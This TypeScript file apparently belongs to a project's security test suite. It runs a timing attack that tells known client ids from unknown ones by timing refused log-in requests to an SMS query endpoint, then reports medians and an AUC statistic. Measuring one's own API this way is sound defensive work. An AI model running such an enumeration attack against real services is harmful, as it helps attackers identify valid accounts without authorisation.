import { randomBytes, randomInt } from 'node:crypto';
import { DEMO } from '@ardor/domain/message/demo';
import { Client, request, type Dispatcher } from 'undici';
import type { Attack } from '../attack.js';

/** Requests that are not counted: the connection and the code become warm. */
const WARM_UP = 500;

export const attack: Attack = {
  summary:
    'Tells known client ids from unknown ones by the time of a refused log-in, on one connection (option client: a known id).',
  run: async ({ api, seconds, option }) => {
    const known = option('client', DEMO.clientId);
    const connection = new Client(api);
    const times = { known: new Array<number>(), unknown: new Array<number>() };
    const endsAt = performance.now() + seconds * 1000;
    for (let n = 0; performance.now() < endsAt; n++) {
      const kind = randomInt(2) === 0 ? 'known' : 'unknown';
      // Made for both kinds: the attacker's own work must not differ.
      const unknown = randomId(known.length);
      const took = await timeOf(connection, api, kind === 'known' ? known : unknown);
      if (n >= WARM_UP) times[kind].push(took);
    }
    await connection.close();
    const [area, error] = areaUnderCurve(times.unknown, times.known);
    return [
      `${times.known.length} requests with the known id, ${times.unknown.length} with unknown ones`,
      `median ${median(times.known).toFixed(3)} ms with the known id, ${median(times.unknown).toFixed(3)} ms with unknown ones`,
      `AUC ${area.toFixed(3)} ± ${(2 * error).toFixed(3)}: the chance that one request with an unknown id takes longer; 0.5 tells nothing`,
    ];
  },
};

const randomId = (length: number): string => randomBytes(length).toString('hex').slice(0, length);

/** Milliseconds from the request's first byte to the response's last one. */
async function timeOf(dispatcher: Dispatcher, api: string, clientId: string): Promise<number> {
  const body = JSON.stringify({ client_id: clientId, passcode: randomId(26), sms_uid: DEMO.messageId });
  const startedAt = performance.now();
  const response = await request(`${api}/api/sms/v1/querysms`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body,
    dispatcher,
  });
  await response.body.dump();
  return performance.now() - startedAt;
}

/** The chance that one of `left` is larger than one of `right`, by the sum of ranks, and its standard error where both are alike. */
function areaUnderCurve(left: readonly number[], right: readonly number[]): [area: number, error: number] {
  const all = [...left.map((value) => ({ value, left: true })), ...right.map((value) => ({ value, left: false }))];
  all.sort((one, other) => one.value - other.value);
  let ranks = 0;
  for (let from = 0, to = 0; from < all.length; from = to) {
    while (to < all.length && all[to]?.value === all[from]?.value) to++;
    // Equal values share their mean rank.
    for (let at = from; at < to; at++) if (all[at]?.left) ranks += (from + to + 1) / 2;
  }
  const pairs = left.length * right.length;
  const area = (ranks - (left.length * (left.length + 1)) / 2) / pairs;
  return [area, Math.sqrt((left.length + right.length + 1) / (12 * pairs))];
}

const median = (values: readonly number[]): number => Float64Array.from(values).sort()[values.length >> 1] ?? 0;
